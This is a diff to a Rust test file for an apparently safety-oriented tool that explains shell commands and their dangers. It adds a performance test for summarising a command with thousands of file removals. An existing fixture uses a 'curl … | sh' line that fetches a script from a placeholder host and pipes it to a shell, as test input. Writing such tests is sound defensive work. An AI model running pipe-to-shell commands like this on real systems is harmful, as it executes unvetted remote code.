@@ -1,5 +1,7 @@
 //! What people see of an explained command.
 
+use std::time::{Duration, Instant};
+
 use haft::effect::Danger;
 use haft::path::{Extent, Place, Target};
 use haft::process::Level;
@@ -44,6 +46,23 @@ fn downloaded() -> Explained {
     let mut explained = explained("curl -s https://x.example/i.sh | sh", &parts);
     explained.parts[1].part = 33..35;
     explained
+}
+
+#[test]
+fn a_command_with_thousands_of_effects_is_shown_in_time() {
+    let command = format!("rm {}", (0..9_000).map(|number| format!("f{number} ")).collect::<String>());
+    let told: Vec<String> = (0..9_000).map(|number| format!("remove f{number}")).collect();
+    let one = explained(&command, &[(&command, "remove f", Decision::Ask, "removals")]);
+    let part = |does: &String| JudgedPart { does: does.clone(), ..one.parts[0].clone() };
+    let explained = Explained { parts: told.iter().map(part).collect(), ..one };
+
+    let begun = Instant::now();
+    let shown = shown(&explained, 100);
+    let took = begun.elapsed();
+
+    assert!(shown.contains("… and 8988 more, of which 0 are allowed"), "{shown}");
+    let most = Duration::from_millis(if cfg!(debug_assertions) { 2_500 } else { 250 });
+    assert!(took < most, "{took:?}");
 }
 
 #[test]
